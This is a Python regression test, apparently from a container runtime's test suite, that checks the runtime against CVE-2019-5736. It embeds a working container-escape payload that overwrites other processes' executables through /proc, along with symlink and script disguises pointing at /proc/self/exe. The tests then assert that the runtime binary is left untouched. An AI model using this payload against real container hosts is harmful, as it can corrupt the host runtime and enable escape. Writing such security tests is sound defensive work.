#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""CVE-2019-5736: a container that overwrites the runtime's own file, reached through /proc."""

import os
import shutil
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import attacks                                                               # noqa: E402
import harness                                                               # noqa: E402
from harness import needs                                                    # noqa: E402

EXECUTIONS = 20

# Holds what others execute, and writes to it as soon as nobody executes it any more.
OVERWRITE = """
import os, sys
own = os.stat("/proc/self/exe")
held = {}
sys.stdout.write("watching\\n")
sys.stdout.flush()
while True:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            status = os.stat(f"/proc/{pid}/exe")
            if (status.st_dev, status.st_ino) == (own.st_dev, own.st_ino):
                continue
            if (status.st_dev, status.st_ino) not in held:
                held[status.st_dev, status.st_ino] = os.open(f"/proc/{pid}/exe", os.O_PATH)
        except OSError:
            continue
    for fd in held.values():
        try:
            os.write(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY), b"#!/bin/false\\n")
        except OSError:
            pass
"""


@needs("root")
class CVE_2019_5736(attacks.Attack):
    def setUp(self):
        super().setUp()
        # A file of our own, which may be overwritten.
        self.victim.runtime = self.victim.folder / "runtime"
        shutil.copy2(shutil.which(attacks.RUNTIME), self.victim.runtime)
        self.hash = attacks.hash_of(self.victim.runtime)

    def binary_is_untouched(self):
        self.assertEqual(attacks.hash_of(self.victim.runtime), self.hash)

    def disguise(self):
        """Programs that lead to the runtime's file."""
        (self.victim.rootfs / "link").symlink_to("/proc/self/exe")
        script = self.victim.rootfs / "script"
        script.write_text("#!/proc/self/exe\n")
        script.chmod(0o755)
        return ("/proc/self/exe", "/link", "/script", "/proc/1/exe", "/proc/thread-self/exe")

    def test_as_the_first_program(self):
        for program in self.disguise():
            with self.subTest(program):
                self.victim.configure(args=[program, "--version"])
                self.victim.run("run", "web")
                self.victim.run("delete", "--force", "web")
                self.binary_is_untouched()

    def execute(self, *programs):
        """Join the container again and again; a file that is written to cannot be executed."""
        for program in programs:
            for _ in self.tries(EXECUTIONS):
                try:
                    self.victim.run("exec", "web", program, "--version")
                finally:
                    self.binary_is_untouched()

    def test_while_it_joins(self):
        self.victim.configure(args=harness.python(OVERWRITE))
        self.succeed("run", "--detach", "web")
        self.execute(*self.disguise(), "/bin/true")

    def test_of_an_init_that_waited(self):
        self.victim.configure(capabilities=attacks.capabilities("CAP_SYS_PTRACE"))
        self.succeed("create", "web")
        self.succeed("exec", "--detach", "web", *harness.python(OVERWRITE))
        self.execute("/bin/true")
        self.succeed("start", "web")
        self.execute("/bin/true")


if __name__ == "__main__":
    attacks.main()
